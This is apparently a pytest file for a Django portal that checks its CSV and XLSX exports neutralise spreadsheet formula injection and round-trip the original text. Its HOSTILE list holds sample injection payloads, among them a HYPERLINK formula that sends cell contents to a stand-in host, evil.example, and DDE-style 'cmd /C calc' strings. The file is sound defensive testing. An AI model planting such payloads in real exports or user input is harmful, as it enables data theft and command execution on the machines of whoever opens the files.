"""Every CSV and XLSX the portal produces writes its cells one way
(thachha_portal/spreadsheets.py): text a spreadsheet would run is neutralised,
numbers stay numbers, and the open-data import gives back the original text."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from procedures import importing
from procedures.models import Feedback, Procedure
from tests.plans.factories import make_activity, make_kpi, make_plan
from tests.procedures.factories import make_procedure
from thachha_portal import spreadsheets

# From the OWASP CSV-injection page and the issue: each would run in Excel or
# LibreOffice if written as it is.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",  # already quoted once: must survive the round trip too
    "''-2",
]
HARMLESS = ["Đăng ký khai sinh", "", "'trích dẫn'", "1.001193", "a=b", "Bước 1: -"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_run_is_quoted_and_comes_back_unchanged(text):
    cell = spreadsheets.csv_cell(text)
    assert cell == "'" + text
    assert spreadsheets.restore(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_written_as_it_is(text):
    assert spreadsheets.csv_cell(text) == text
    assert spreadsheets.restore(text) == text


def test_numbers_stay_numbers():
    row = io.StringIO()
    spreadsheets.CsvWriter(row).writerow([-5, 2.5, Decimal("-1.5"), None, True])
    assert row.getvalue() == "-5,2.5,-1.5,,True\r\n"


def sheet_xml(content, name="xl/worksheets/sheet1.xml"):
    return zipfile.ZipFile(io.BytesIO(content)).read(name).decode()


def test_xlsx_cells_keep_the_text_as_text_never_a_formula():
    workbook = Workbook()
    workbook.active.append([*HOSTILE, "Thạch Hà", -7, 1.5])
    content = spreadsheets.xlsx_bytes(workbook)
    assert "<f>" not in sheet_xml(content)
    cells = list(load_workbook(io.BytesIO(content)).active.iter_rows())[0]
    texts = [c.value for c in cells[: len(HOSTILE)]]
    assert texts == HOSTILE
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[: len(HOSTILE)])
    assert not cells[len(HOSTILE)].quotePrefix
    assert [c.value for c in cells[-2:]] == [-7, 1.5]


def test_xlsx_drops_control_characters_a_workbook_cannot_hold():
    workbook = Workbook()
    cell = workbook.active.cell(row=1, column=1)
    spreadsheets.write_cell(cell, "Hội\x0bnghị\x00")
    content = spreadsheets.xlsx_bytes(workbook)
    assert load_workbook(io.BytesIO(content)).active["A1"].value == "Hộinghị"


# --- each file the portal produces ------------------------------------------------

FORMULA = HOSTILE[0]


def csv_rows(content):
    text = content.decode("utf-8") if isinstance(content, bytes) else content
    assert text.startswith(spreadsheets.BOM)
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.fixture
def hostile_procedure(db):
    procedure = make_procedure(code="1.001193", name=FORMULA)
    procedure.keywords = "-2+3\n@SUM(1)"
    procedure.save()
    return procedure


def test_open_data_csv_neutralises_formulas_and_reimports_the_original(
    client, hostile_procedure
):
    response = client.get(reverse("procedures:open-data-csv"))
    content = response.getvalue()  # a file: read once
    header, row = csv_rows(content)
    record = dict(zip(header, row, strict=True))
    assert record["name"] == "'" + FORMULA
    assert record["keywords"].startswith("'-2+3")
    [row] = importing.read_csv(content.decode("utf-8"))
    assert row.record["name"] == FORMULA
    assert row.record["keywords"] == ["-2+3", "@SUM(1)"]


def test_export_command_neutralises_formulas(tmp_path, hostile_procedure):
    path = tmp_path / "thu-tuc.csv"
    call_command("export_procedures", str(path))
    _header, row = csv_rows(path.read_bytes())
    assert row[1] == "'" + FORMULA
    out = io.StringIO()
    call_command("import_procedures", str(path), stdout=out)
    assert "0 thủ tục mới, 0 cập nhật, 1 không đổi" in out.getvalue()
    assert Procedure.objects.get(code="1.001193").name == FORMULA


def test_feedback_csv_neutralises_every_cell(client, make_staff, hostile_procedure):
    Feedback.objects.create(procedure=hostile_procedure, helpful=False, comment="-1+1")
    client.force_login(make_staff("staff", "reports"))
    response = client.get(reverse("admin:procedures_feedback_export"))
    _header, row = csv_rows(response.content)
    assert row[2:] == ["'" + FORMULA, "không", "'-1+1"]


@pytest.fixture
def plan_with_hostile_activity(profile):
    plan = make_plan()
    make_kpi(plan, short_name="=1+1", params={"kinds": ["conference"]})
    make_activity(
        datetime.date(2021, 2, 15), kind="conference", title=FORMULA, participants=40
    )
    return plan


@pytest.mark.parametrize("output", ["csv", "xlsx"])
def test_plan_reports_neutralise_formulas(
    client, make_staff, plan_with_hostile_activity, output
):
    client.force_login(make_staff("lanhdao", "reports"))
    params = {
        "plan": plan_with_hostile_activity.pk,
        "period": "year",
        "year": 2021,
        "format": output,
    }
    content = client.get(reverse("plans:report"), params).content
    if output == "csv":
        cells = [cell for row in csv_rows(content) for cell in row]
        assert "'=1+1" in cells and "'" + FORMULA in cells
        assert not any(c[:1] in "=+-@" for c in cells if c)
        return
    archive = zipfile.ZipFile(io.BytesIO(content))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in archive.read(name).decode()
    workbook = load_workbook(io.BytesIO(content))
    titles = [
        cell
        for row in workbook["Hoạt động"].iter_rows()
        for cell in row
        if cell.value == FORMULA
    ]
    assert titles and all(c.data_type == "s" and c.quotePrefix for c in titles)
    participants = workbook["Hoạt động"]["E2"].value
    assert participants == 40  # numbers stay numbers


def test_xlsx_dates_are_date_cells_shown_as_vietnam_writes_them():
    workbook = Workbook()
    # 01:30 UTC on 20/10/2026 is 08:30 in Hà Nội; 31/12 17:30 UTC is 01/01 there
    morning = datetime.datetime(2026, 10, 20, 1, 30, tzinfo=datetime.UTC)
    new_year = datetime.datetime(2026, 12, 31, 17, 30, tzinfo=datetime.UTC)
    workbook.active.append([datetime.date(2026, 10, 15), morning, new_year, 67])
    spreadsheets.write_percent(workbook.active["D1"], 67)
    cells = list(load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(workbook))).active[1])
    assert [(c.data_type, c.number_format) for c in cells] == [
        ("d", "dd/mm/yyyy"),
        ("d", "dd/mm/yyyy hh:mm"),
        ("d", "dd/mm/yyyy hh:mm"),
        ("n", "0%"),
    ]
    assert [c.value for c in cells] == [
        datetime.datetime(2026, 10, 15),
        datetime.datetime(2026, 10, 20, 8, 30),
        datetime.datetime(2027, 1, 1, 0, 30),
        0.67,
    ]
